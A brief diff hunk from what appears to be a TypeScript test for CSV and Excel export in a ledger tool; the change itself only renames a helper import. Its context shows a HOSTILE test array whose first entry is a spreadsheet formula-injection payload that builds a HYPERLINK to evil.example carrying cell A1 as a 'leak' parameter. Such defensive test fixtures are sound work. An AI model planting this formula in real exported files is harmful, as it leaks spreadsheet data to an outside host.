@@ -10,7 +10,7 @@ import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { openLedger } from '../../ledger';
-import { runCli } from '../helpers/cli';
+import { runCli } from '../helpers/processes';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
